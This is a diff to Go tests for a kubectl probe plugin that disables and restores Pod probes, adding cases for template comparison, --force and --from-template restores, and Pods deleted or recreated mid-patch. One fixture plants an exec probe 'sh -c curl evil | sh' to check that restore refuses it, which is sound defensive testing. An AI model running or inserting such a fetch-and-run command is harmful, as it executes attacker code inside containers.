@@ -3,6 +3,7 @@ package probeplugin
 import (
 	"context"
 	"encoding/json"
+	"errors"
 	"strings"
 	"testing"
 
@@ -38,15 +39,12 @@ func webPod() *v1.Pod {
 	}
 }
 
-// applyChange applies c to a copy of pod and returns the copy.
-func applyChange(t *testing.T, pod *v1.Pod, c change) (*v1.Pod, error) {
+// applyChange applies c to a copy of pod, created from template, and
+// returns the copy.
+func applyChange(t *testing.T, pod *v1.Pod, c change, template *podTemplate) (*v1.Pod, error) {
 	t.Helper()
-	modified := pod.DeepCopy()
-	container, err := chooseContainer(modified, "")
-	if err != nil {
-		t.Fatal(err)
-	}
-	return modified, c.apply(modified, container)
+	modified, _, err := modify(pod, "", c, template)
+	return modified, err
 }
 
 // jsonEqual compares two JSON documents as values.
@@ -88,12 +86,27 @@ func TestPatches(t *testing.T) {
 	setAgain := disabled.DeepCopy()
 	setAgain.Spec.Containers[0].LivenessProbe = httpGet("/livez")
 
+	// The template that webPod was created from, and one whose liveness
+	// probe has a longer timeout.
+	template := &podTemplate{name: "replicaset.apps/web-1", spec: &webPod().Spec}
+	relaxedSpec := webPod().Spec
+	relaxedSpec.Containers[0].LivenessProbe.TimeoutSeconds = 10
+	relaxedTemplate := &podTemplate{name: "replicaset.apps/web-2", spec: &relaxedSpec}
+	// A command that someone who may patch the Pod wrote into the
+	// annotation.
+	planted := disabled.DeepCopy()
+	planted.Annotations[keptAnnotation] = mustJSON(keptProbes{"app": {liveness: {ProbeHandler: v1.ProbeHandler{Exec: &v1.ExecAction{Command: []string{"sh", "-c", "curl evil | sh"}}}}}})
+	// A Pod that a rollout created after disable: nothing kept, the
+	// template's probes.
+	fresh := webPod()
+
 	for _, tc := range []struct {
-		name    string
-		pod     *v1.Pod
-		change  change
-		want    string // the patch; empty for none
-		wantErr string
+		name     string
+		pod      *v1.Pod
+		template *podTemplate
+		change   change
+		want     string // the patch; empty for none
+		wantErr  string
 	}{{
 		name:   "a field of a probe",
 		pod:    webPod(),
@@ -152,6 +165,11 @@ func TestPatches(t *testing.T) {
 		change: disableChange{types: []probeType{readiness}},
 		want:   `{"metadata":{"resourceVersion":"7","annotations":{"` + keptAnnotation + `":` + strconvQuote(string(bothKept)) + `}},"spec":{` + order + `,"containers":[{"name":"app","readinessProbe":null}]}}`,
 	}, {
+		name:    "disable never replaces a kept probe",
+		pod:     setAgain,
+		change:  disableChange{types: []probeType{liveness}},
+		wantErr: `container "app" keeps a liveness probe that an earlier disable removed, and has another one set since: disabling it would lose one of them`,
+	}, {
 		name:    "disable an absent probe",
 		pod:     webPod(),
 		change:  disableChange{types: []probeType{startup}},
@@ -168,9 +186,66 @@ func TestPatches(t *testing.T) {
 		want:   `{"metadata":{"resourceVersion":"7","annotations":{"` + keptAnnotation + `":` + strconvQuote(keptLiveness) + `}},"spec":{` + order + `,"containers":[{"name":"app","readinessProbe":` + mustJSON(httpGet("/ready")) + `}]}}`,
 	}, {
 		name:    "restore with nothing kept",
-		pod:     webPod(),
+		pod:     setAgain,
+		change:  restoreChange{types: []probeType{readiness}},
+		wantErr: `container "app" has no readiness probe kept by kubectl probe disable`,
+	}, {
+		name:     "restore with nothing kept, on a Pod with the template's probe",
+		pod:      fresh,
+		template: template,
+		change:   restoreChange{types: []probeType{liveness}},
+	}, {
+		name:     "restore with nothing kept, on a Pod whose probe differs from the template's",
+		pod:      fresh,
+		template: relaxedTemplate,
+		change:   restoreChange{types: []probeType{liveness}},
+		wantErr:  `container "app" has no liveness probe kept by kubectl probe disable; there is nothing to restore (--from-template puts back its template's)`,
+	}, {
+		name:     "restore the template's probe, kept",
+		pod:      disabled,
+		template: template,
+		change:   restoreChange{types: []probeType{liveness}},
+		want:     `{"metadata":{"resourceVersion":"7","annotations":{"` + keptAnnotation + `":null}},"spec":{` + order + `,"containers":[{"name":"app","livenessProbe":` + mustJSON(httpGet("/healthz")) + `}]}}`,
+	}, {
+		name:     "restore refuses a kept probe that is not the template's",
+		pod:      disabled,
+		template: relaxedTemplate,
+		change:   restoreChange{types: []probeType{liveness}},
+		wantErr:  `the liveness probe kept for container "app" is not the one of the template of replicaset.apps/web-2, and anyone who may patch the Pod may have written it: kept http-get http://:8080/healthz delay=0s timeout=1s period=10s #success=1 #failure=3, template http-get http://:8080/healthz delay=0s timeout=10s period=10s #success=1 #failure=3; --force puts the kept one back, --from-template the template's`,
+	}, {
+		name:     "restore --force puts back a kept probe that is not the template's",
+		pod:      disabled,
+		template: relaxedTemplate,
+		change:   restoreChange{types: []probeType{liveness}, force: true},
+		want:     `{"metadata":{"resourceVersion":"7","annotations":{"` + keptAnnotation + `":null}},"spec":{` + order + `,"containers":[{"name":"app","livenessProbe":` + mustJSON(httpGet("/healthz")) + `}]}}`,
+	}, {
+		name:    "restore refuses a planted command on a Pod without a template",
+		pod:     planted,
 		change:  restoreChange{types: []probeType{liveness}},
-		wantErr: `container "app" has no liveness probe kept by kubectl probe disable`,
+		wantErr: `the liveness probe kept for container "app" runs a command, exec [sh -c curl evil | sh], and anyone who may patch the Pod may have written it; with no template to compare it with, only --force puts it back`,
+	}, {
+		name:     "restore refuses a planted command on a Pod with a template",
+		pod:      planted,
+		template: template,
+		change:   restoreChange{types: []probeType{liveness}},
+		wantErr:  `the liveness probe kept for container "app" is not the one of the template of replicaset.apps/web-1`,
+	}, {
+		name:     "restore --from-template puts back the template's probe, and drops the kept one",
+		pod:      planted,
+		template: relaxedTemplate,
+		change:   restoreChange{types: []probeType{liveness}, fromTemplate: true},
+		want:     `{"metadata":{"resourceVersion":"7","annotations":{"` + keptAnnotation + `":null}},"spec":{` + order + `,"containers":[{"name":"app","livenessProbe":` + mustJSON(relaxedSpec.Containers[0].LivenessProbe) + `}]}}`,
+	}, {
+		name:     "restore --from-template of a probe the template lacks removes it",
+		pod:      setAgain,
+		template: &podTemplate{name: "replicaset.apps/web-3", spec: &v1.PodSpec{Containers: []v1.Container{{Name: "app"}}}},
+		change:   restoreChange{types: []probeType{readiness}, fromTemplate: true},
+		want:     `{"metadata":{"resourceVersion":"7"},"spec":{` + order + `,"containers":[{"name":"app","readinessProbe":null}]}}`,
+	}, {
+		name:    "restore --from-template without a template",
+		pod:     disabled,
+		change:  restoreChange{types: []probeType{liveness}, fromTemplate: true},
+		wantErr: "has no controller whose template it was created from",
 	}, {
 		name:    "restore over a probe set after disable",
 		pod:     setAgain,
@@ -183,7 +258,7 @@ func TestPatches(t *testing.T) {
 		want:   `{"metadata":{"resourceVersion":"7","annotations":{"` + keptAnnotation + `":null}},"spec":{` + order + `,"containers":[{"name":"app","livenessProbe":{"httpGet":{"path":"/healthz"}}}]}}`,
 	}} {
 		t.Run(tc.name, func(t *testing.T) {
-			modified, err := applyChange(t, tc.pod, tc.change)
+			modified, err := applyChange(t, tc.pod, tc.change, tc.template)
 			if tc.wantErr != "" {
 				if err == nil || !strings.Contains(err.Error(), tc.wantErr) {
 					t.Fatalf("err = %v, want one containing %q", err, tc.wantErr)
@@ -193,7 +268,7 @@ func TestPatches(t *testing.T) {
 			if err != nil {
 				t.Fatal(err)
 			}
-			patch, err := podPatch(tc.pod, modified)
+			patch, err := podPatch(tc.pod, modified, true)
 			if err != nil {
 				t.Fatal(err)
 			}
@@ -239,83 +314,98 @@ func TestPatcherRetriesOnConflict(t *testing.T) {
 		}
 		return true, nil, apierrors.NewConflict(schema.GroupResource{Resource: "pods"}, "web", nil)
 	})
-	p := &patcher{client: client, change: setChange{types: []probeType{liveness}, settings: settings{timeoutSeconds: ptr.To[int32](10)}}, dryRun: dryRunNone}
-	stored, didChange, err := p.apply(context.Background(), pod)
+	p := &patcher{client: client, fieldManager: "kubectl-probe"}
+	res, err := p.apply(context.Background(), pod, "", setChange{types: []probeType{liveness}, settings: settings{timeoutSeconds: ptr.To[int32](10)}}, nil, false)
 	if err != nil {
 		t.Fatal(err)
 	}
-	if !didChange {
-		t.Error("apply says nothing changed")
+	if !res.changed || res.read.ResourceVersion != "8" {
+		t.Errorf("changed %v, read at resourceVersion %s; want changed, read at 8", res.changed, res.read.ResourceVersion)
 	}
 	if len(patches) != 2 {
 		t.Fatalf("sent %d patches, want 2: %v", len(patches), patches)
 	}
 	jsonEqual(t, `{"metadata":{"resourceVersion":"8"},"spec":{`+order+`,"containers":[{"name":"app","livenessProbe":{"timeoutSeconds":10}}]}}`, []byte(patches[1]))
-	c := stored.Spec.Containers[0]
+	c := res.stored.Spec.Containers[0]
 	if c.LivenessProbe.TimeoutSeconds != 10 || c.ReadinessProbe.HTTPGet.Path != "/readyz" {
 		t.Errorf("want the new liveness timeout and the concurrent readiness path, got liveness %+v, readiness %+v", c.LivenessProbe, c.ReadinessProbe)
 	}
 }
 
-// A change that is not valid any more on the Pod as read again fails,
-// rather than overwriting what the other writer did.
-func TestPatcherRecomputesRestoreAfterConflict(t *testing.T) {
-	pod := webPod()
-	pod.Spec.Containers[0].LivenessProbe = nil
-	pod.Annotations = map[string]string{keptAnnotation: keptLiveness}
-	client := fake.NewClientset(pod)
-	client.PrependReactor("patch", "pods", func(action k8stesting.Action) (bool, runtime.Object, error) {
-		concurrent := pod.DeepCopy()
-		concurrent.ResourceVersion = "8"
-		concurrent.Spec.Containers[0].LivenessProbe = httpGet("/livez")
-		if err := client.Tracker().Update(v1.SchemeGroupVersion.WithResource("pods"), concurrent, "ns"); err != nil {
-			t.Fatal(err)
-		}
-		return true, nil, apierrors.NewConflict(schema.GroupResource{Resource: "pods"}, "web", nil)
-	})
-	p := &patcher{client: client, change: restoreChange{types: []probeType{liveness}}, dryRun: dryRunNone}
-	_, _, err := p.apply(context.Background(), pod)
-	if err == nil || !strings.Contains(err.Error(), "has a liveness probe again") {
-		t.Fatalf("err = %v, want the refusal to replace the probe set meanwhile", err)
-	}
-	got, err := client.CoreV1().Pods("ns").Get(context.Background(), "web", metav1.GetOptions{})
-	if err != nil {
-		t.Fatal(err)
-	}
-	if got.Spec.Containers[0].LivenessProbe.HTTPGet.Path != "/livez" {
-		t.Errorf("the concurrent probe was overwritten: %+v", got.Spec.Containers[0].LivenessProbe)
+// A Pod deleted, or deleted and created again under the same name, while
+// the patcher works on it, is gone: the new Pod is never patched.
+func TestPatcherPodGone(t *testing.T) {
+	for _, tc := range []struct {
+		name string
+		// replace is what happens to the Pod before the first patch
+		// arrives.
+		replace func(t *testing.T, client *fake.Clientset)
+		want    string
+	}{{
+		name: "deleted",
+		replace: func(t *testing.T, client *fake.Clientset) {
+			if err := client.Tracker().Delete(v1.SchemeGroupVersion.WithResource("pods"), "ns", "web"); err != nil {
+				t.Fatal(err)
+			}
+		},
+		want: "deleted",
+	}, {
+		name: "recreated",
+		replace: func(t *testing.T, client *fake.Clientset) {
+			again := webPod()
+			again.UID, again.ResourceVersion = "new", "9"
+			if err := client.Tracker().Update(v1.SchemeGroupVersion.WithResource("pods"), again, "ns"); err != nil {
+				t.Fatal(err)
+			}
+		},
+		want: "recreated: another Pod has its name now",
+	}} {
+		t.Run(tc.name, func(t *testing.T) {
+			pod := webPod()
+			pod.UID = "old"
+			client := fake.NewClientset(pod)
+			patches := 0
+			client.PrependReactor("patch", "pods", func(action k8stesting.Action) (bool, runtime.Object, error) {
+				patches++
+				if patches == 1 {
+					tc.replace(t, client)
+					// The resourceVersion in the patch no longer matches.
+					return true, nil, apierrors.NewConflict(schema.GroupResource{Resource: "pods"}, "web", nil)
+				}
+				return false, nil, nil
+			})
+			p := &patcher{client: client}
+			_, err := p.apply(context.Background(), pod, "", removeChange{types: []probeType{liveness}}, nil, false)
+			var gone *podGoneError
+			if !errors.As(err, &gone) || gone.reason != tc.want {
+				t.Fatalf("err = %v, want the Pod %s", err, tc.want)
+			}
+			if patches != 1 {
+				t.Errorf("sent %d patches, want only the one that conflicted", patches)
+			}
+		})
 	}
 }
 
-func TestPatcherDryRun(t *testing.T) {
-	for _, mode := range []dryRun{dryRunClient, dryRunServer} {
-		t.Run(string(mode), func(t *testing.T) {
-			pod := webPod()
-			client := fake.NewClientset(pod)
-			var options []metav1.PatchOptions
-			client.PrependReactor("patch", "pods", func(action k8stesting.Action) (bool, runtime.Object, error) {
-				options = append(options, action.(k8stesting.PatchActionImpl).PatchOptions)
-				// The fake does not know dry runs: answer as the server would.
-				return true, pod, nil
-			})
-			p := &patcher{client: client, change: removeChange{types: []probeType{liveness}}, dryRun: mode}
-			result, didChange, err := p.apply(context.Background(), pod)
-			if err != nil || !didChange {
-				t.Fatalf("apply = %v, %v", didChange, err)
-			}
-			switch mode {
-			case dryRunClient:
-				if len(options) != 0 {
-					t.Errorf("a client dry run sent %d patches", len(options))
-				}
-				if result.Spec.Containers[0].LivenessProbe != nil {
-					t.Error("a client dry run returned the Pod without the change")
-				}
-			case dryRunServer:
-				if len(options) != 1 || !cmp.Equal(options[0].DryRun, []string{metav1.DryRunAll}) {
-					t.Errorf("a server dry run sent %+v, want one patch with dryRun=All", options)
-				}
-			}
+func TestPatcherOptions(t *testing.T) {
+	for _, dryRun := range []bool{false, true} {
+		pod := webPod()
+		client := fake.NewClientset(pod)
+		var options []metav1.PatchOptions
+		client.PrependReactor("patch", "pods", func(action k8stesting.Action) (bool, runtime.Object, error) {
+			options = append(options, action.(k8stesting.PatchActionImpl).PatchOptions)
+			return true, pod, nil
 		})
+		p := &patcher{client: client, fieldManager: "oncall"}
+		if _, err := p.apply(context.Background(), pod, "", removeChange{types: []probeType{liveness}}, nil, dryRun); err != nil {
+			t.Fatal(err)
+		}
+		want := metav1.PatchOptions{FieldManager: "oncall"}
+		if dryRun {
+			want.DryRun = []string{metav1.DryRunAll}
+		}
+		if len(options) != 1 || !cmp.Equal(options[0], want) {
+			t.Errorf("dry run %v: sent %+v, want one patch with %+v", dryRun, options, want)
+		}
 	}
 }
